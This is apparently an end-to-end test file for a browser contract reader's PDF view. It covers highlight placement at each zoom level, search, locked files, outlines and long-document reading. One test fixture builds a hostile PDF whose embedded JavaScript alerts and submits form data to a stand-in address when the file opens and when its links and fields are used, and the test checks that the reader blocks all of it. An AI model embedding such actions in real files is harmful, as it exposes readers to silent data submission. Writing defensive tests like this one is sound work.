/** A contract that comes as a PDF: its pages in our own page, marked, searched, and read while they are looked at. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { violationsOf } from '../browsers/axe'
import { call, until, type Browser, type Tab } from '../browsers/browser'
import { giveFile } from '../browsers/hands'
import { cardOn, marksOf } from '../browsers/marks'
import { open, tested } from '../browsers/open'
import { openProxy, type Proxy } from '../browsers/proxy'
import { click, focus, read, seen } from '../browsers/roles'
import { reviewIn } from '../browsers/state'
import { longContract } from '../files/pdf/long-contract'
import { lines, makePdf, size, type MadePage } from '../files/pdf/make-pdf'

/** In points: the words that are looked for, drawn by themselves, and how wide Helvetica sets them. */
const place = { x: 300, y: 300, width: 49.5, height: 10 }
const wanted = 'best efforts'
const clause: MadePage = {
  drawn: [
    ...lines(['4. Repairs', 'The parties agree on what follows, and each of them has read it.'], { y: 240 }),
    { text: '4.1 The Supplier shall use its', x: 72, y: place.y }, { text: wanted, x: place.x, y: place.y }, { text: 'to repair the goods.', x: 360, y: place.y },
  ],
}
const plain = (page: number): MadePage => ({ drawn: lines([`Schedule ${page}`, `The Supplier delivers lot ${page} to the Customer on day ${page} of this Agreement.`, 'The Customer signs for each lot.']) })
const opening: MadePage = { drawn: lines(['Supply Agreement', 'This Agreement is made between Alder Ltd (the “Supplier”) and Birch Ltd (the “Customer”).', 'The Supplier shall deliver the goods to the Customer within a reasonable time.']) }

/** What a hostile file would try, once when it is opened and again when a page is shown. */
const script = '<< /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("http://127.0.0.2:9/"\\);) >>'
const hostile = makePdf([
  { ...opening, annotations: [`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://tracker.example/pdf) >> >>`, `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A ${script} >>`, `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Cedar Ltd) /Rect [72 500 300 520] /DA (/Helv 10 Tf 0 g) /F 4 /AA << /F ${script} /Fo ${script} >> >>`] },
  clause,
], { opens: script })

describe.each(tested)('a PDF in the reader page of %s', kind => {
  let browser: Browser, proxy: Proxy
  beforeAll(async () => {
    proxy = await openProxy()
    browser = await open(kind, { proxy: proxy.address })
  })
  afterAll(async () => {
    await browser?.close()
    await proxy?.close()
  })

  const shown = async (bytes: Uint8Array, name = 'supply.pdf'): Promise<Tab> => {
    const tab = await browser.open(browser.url('reader/reader.html'))
    await read(tab, /Open a contract/)
    await giveFile(tab, name, bytes)
    await until('the first page', () => isDrawn(tab, 1))
    return tab
  }
  const isDrawn = (tab: Tab, page: number) => tab.evaluate<boolean>(`document.querySelector('.page[data-page-number="${page}"] .endOfContent') !== null`)
  const field = (tab: Tab) => tab.evaluate<string>('document.querySelector(".pdf-page input").value')
  const toPage = async (tab: Tab, page: number) => {
    await focus(tab, 'textbox', 'Page')
    await tab.evaluate('document.activeElement.select()')
    await tab.type(String(page))
    await tab.press('Enter')
    await until(`page ${page}`, async () => await field(tab) === String(page) && isDrawn(tab, page))
  }
  /** Where the marked words are on their page, in points, and whether they are in sight. */
  const wordsAt = (tab: Tab, words: string) => call(tab, (words: string, width: number) => {
    const ranges = [...(CSS as unknown as { highlights: Map<string, Iterable<Range>> }).highlights].flatMap(([, ranges]) => [...ranges])
    const range = ranges.find(range => range.toString() === words)
    const page = range?.startContainer.parentElement!.closest('.page')
    if (!range || !page) return undefined
    const paper = page.getBoundingClientRect(), box = range.getBoundingClientRect(), scale = paper.width / width
    return { x: (box.left - paper.left) / scale, top: (box.top - paper.top) / scale, bottom: (box.bottom - paper.top) / scale, width: box.width / scale, inSight: box.top > 0 && box.bottom < innerHeight }
  }, words, size.width)
  const onTheirWords = (tab: Tab) => until('the mark to lie on its words', async () => {
    const at = await wordsAt(tab, wanted)
    if (!at) return false
    expect(Math.abs(at.x - place.x)).toBeLessThan(1.5)
    expect(Math.abs(at.width - place.width)).toBeLessThan(2)
    expect(at.top).toBeLessThan(place.y - 5)
    expect(at.bottom).toBeGreaterThan(place.y - 1)
    expect(at.bottom - at.top).toBeLessThan(place.height * 1.8)
    return at
  })

  test('marks lie on their words at every size, a card explains them, and a jump leads to a page that was not drawn', async () => {
    const tab = await shown(makePdf([opening, ...Array.from({ length: 38 }, (_, at) => plain(at + 2)), clause]))
    await until('marks', async () => (await marksOf(tab)).some(({ words }) => words === 'reasonable time'))
    await read(tab, /\d+ findings?/)
    expect((await cardOn(tab, 'reasonable time')).says).toContain('reasonable time')
    await tab.press('Escape')
    expect(await isDrawn(tab, 40)).toBe(false)

    const popup = await browser.clickIcon(tab)
    const { coverage, clauses, quotes } = await until('all pages', async () => {
      const state = await reviewIn(popup)
      return state.coverage.state === 'full' && state
    })
    expect(coverage).toEqual({ state: 'full' })
    expect(clauses.findings[quotes.findings.findIndex(([words]) => words === wanted)]).toMatch(/page 40/)
    await click(popup, 'tab', 'Findings')
    await click(popup, 'button', /best efforts.*go to the words/)
    expect(await until('the words to be in sight', async () => {
      const at = await wordsAt(tab, wanted)
      return at?.inSight && at
    })).toBeTruthy()
    await tab.toFront()
    await onTheirWords(tab)
    await read(tab, /125 %/)
    for (const [button, percent] of [['Larger', 140], ['Larger', 160], ['Smaller', 140], ['Smaller', 120], ['Smaller', 100]] as const) {
      await click(tab, 'button', button)
      await read(tab, new RegExp(`${percent} %`))
      await onTheirWords(tab)
    }
    await tab.command('+')
    await read(tab, /110 %/)
    await tab.command('0')
    await read(tab, /1[4-9]\d %/)
    await onTheirWords(tab)

    for (const page of [10, 20, 30, 1]) await toPage(tab, page)
    await until('the key for the next finding to lead there', async () => {
      await browser.command(tab, 'next-finding')
      return (await wordsAt(tab, wanted))?.inSight
    })
    await tab.close()
  })

  test('search: how many there are, from one to the next, and the marks beside them', async () => {
    const tab = await shown(makePdf([opening, plain(2), plain(3), clause]))
    await until('marks', async () => (await marksOf(tab)).some(({ words }) => words === 'reasonable time'))
    await tab.press('End')
    await until('the keys to scroll', () => tab.evaluate<boolean>('document.querySelector(".pdf-box").scrollTop > 1000'))
    await tab.press('Home')
    await tab.command('f')
    await tab.type('reasonable')
    await read(tab, /1 of 1/)
    await until('the marks on words that were found', async () => (await marksOf(tab)).some(({ words }) => words === 'reasonable time'))
    await tab.evaluate('document.activeElement.select()')
    await tab.type('lot')
    await read(tab, /1 of 4/)
    await tab.press('Enter')
    await read(tab, /2 of 4/)
    await click(tab, 'button', 'Previous')
    await read(tab, /1 of 4/)
    await tab.evaluate('document.querySelector("search input").select()')
    await focus(tab, 'textbox', 'Find in the contract')
    await tab.type('zebra')
    await read(tab, /Not found/)
    expect(await violationsOf(tab)).toEqual([])
    await tab.press('Escape')
    await until('the field to close', async () => (await seen(tab, 'textbox', 'Find')).length === 0)
    await until('what was found to be let go', () => tab.evaluate<boolean>('document.querySelector(".textLayer .highlight") === null'))
    await tab.close()
  })

  test('a locked file asks for its password, tells a wrong one, and opens with the right one', async () => {
    const tab = await browser.open(browser.url('reader/reader.html'))
    await read(tab, /Open a contract/)
    await giveFile(tab, 'locked.pdf', makePdf([opening, clause], { password: 'open sesame' }))
    await read(tab, /This file is locked/)
    expect(await violationsOf(tab)).toEqual([])
    for (const [password, answer] of [['mellon', /That is not the password/], ['open sesame', /of 2/]] as const) {
      await tab.evaluate('document.querySelector("input[type=password]").focus()')
      await tab.type(password)
      await tab.press('Enter')
      await read(tab, answer)
    }
    await until('marks', async () => (await marksOf(tab)).some(({ words }) => words === 'reasonable time'))
    await tab.close()
  })

  test('the outline leads to its places, the field to any page, and a page without words says so', async () => {
    const tab = await shown(makePdf([opening, plain(2), { raw: 'q 500 0 0 700 40 60 cm /Picture Do Q' }, ...Array.from({ length: 9 }, (_, at) => plain(at + 4)), clause], { outline: [['Parties', 1], ['Lots', 7], ['Repairs', 13]] }))
    await click(tab, 'button', 'Outline')
    await click(tab, 'button', 'Lots')
    await until('the page of the lots', () => isDrawn(tab, 7))
    expect(await violationsOf(tab)).toEqual([])
    await until('its number', async () => await field(tab) === '7')
    await toPage(tab, 3)
    await until('the page to say so', () => tab.evaluate<boolean>(`document.querySelector('.page[data-page-number="3"]').dataset.told?.includes('Page 3 is a picture')`))
    await read(await browser.clickIcon(tab), /Pages? 3 (?:is a picture|are pictures)/)
    await tab.close()
  })

  test('500 pages can be looked at from the first on, while they are read; that can be stopped, and taken up again', async () => {
    const tab = await browser.open(browser.url('reader/reader.html'))
    await read(tab, /Open a contract/)
    await giveFile(tab, 'long.pdf', longContract(500, { last: ['900. The Customer shall bring the boxes back within forty (14) days.'] }))
    await read(tab, /\d+ of 500 pages read/)
    await until('the first page', () => isDrawn(tab, 1))
    await until('its own button alone', async () => (await seen(tab, 'button', /^Stop$/)).length === 1)
    await click(tab, 'button', /^Stop$/)
    const stopped = Number(await read(tab, /Stopped after (\d+) of 500 pages/))
    expect(stopped).toBeLessThan(500)
    expect((await reviewIn(await browser.clickIcon(tab))).coverage.say).toMatch(/\d+ of 500 pages/)
    await tab.toFront()
    await click(tab, 'button', 'Read the rest')
    await until('all of it', async () => (await seen(tab, 'progressbar')).length === 0 && (await seen(tab, 'button', 'Read the rest')).length === 0, 60)
    expect(await tab.evaluate<number>('document.querySelectorAll(".page canvas").length')).toBeLessThan(15)
    for (let times = 0; times < 4; times++) await tab.command('+')
    await until('the whole review', async () => (await reviewIn(await browser.clickIcon(tab))).coverage.state === 'full', 60)
    const popup = await browser.clickIcon(tab)
    await click(popup, 'tab', 'Findings')
    await click(popup, 'button', /forty \(14\).*go to the words/)
    await until('the words on the last page to be in sight', async () => (await wordsAt(tab, 'forty (14)'))?.inSight)
    await until('the number of that page', async () => await field(tab) === '500')
    await tab.close()
  })

  test('what was filled in is shown; nothing in a file runs, nothing is asked of anybody, and a link waits to be clicked', async () => {
    const asked = proxy.hosts.length
    const tab = await browser.open(browser.url('reader/reader.html'))
    await call(tab, () => {
      const heard: string[] = []
      Object.assign(globalThis, { heard, alert: () => heard.push('alert'), open: () => heard.push('open') })
      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => heard.push(`${violatedDirective} ${blockedURI}`))
    })
    await giveFile(tab, 'hostile.pdf', hostile)
    const links = await until('the links', () => call(tab, () => {
      const links = [...document.querySelectorAll<HTMLAnchorElement>('.annotationLayer a')]
      return links.length > 0 && links.map(({ href, target, rel }) => ({ href, target, rel }))
    }))
    expect(links.filter(({ href }) => /^https?:/.test(href))).toEqual([{ href: 'https://tracker.example/pdf', target: '_blank', rel: 'noopener noreferrer nofollow' }])
    await until('marks', async () => (await marksOf(tab)).length > 1)
    expect(await tab.evaluate<string>('document.querySelector(".annotationLayer").textContent')).toContain('Cedar Ltd')
    expect(await tab.evaluate<number>('document.querySelectorAll(".annotationLayer input, .annotationLayer textarea").length')).toBe(0)
    expect(await tab.evaluate<string[]>('heard')).toEqual([])
    expect(proxy.hosts.slice(asked)).toEqual([])
    await tab.close()
  })
})
